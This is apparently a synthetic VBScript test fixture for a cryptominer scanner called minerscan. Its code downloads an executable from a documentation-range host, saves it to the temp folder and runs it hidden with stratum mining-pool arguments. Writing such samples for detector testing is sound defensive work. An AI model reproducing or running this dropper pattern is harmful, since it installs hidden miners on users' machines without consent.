' SYNTHETIC TEST FIXTURE for minerscan: harmless text, never executed. Addresses are generated, hosts are documentation ranges or public pool names.
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://203.0.113.30/m.exe", False
http.Send
Set st = CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write http.responseBody
st.SaveToFile CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\m.exe", 2
CreateObject("WScript.Shell").Run "%TEMP%\m.exe -o stratum+tcp://203.0.113.30:3333 -u x", 0
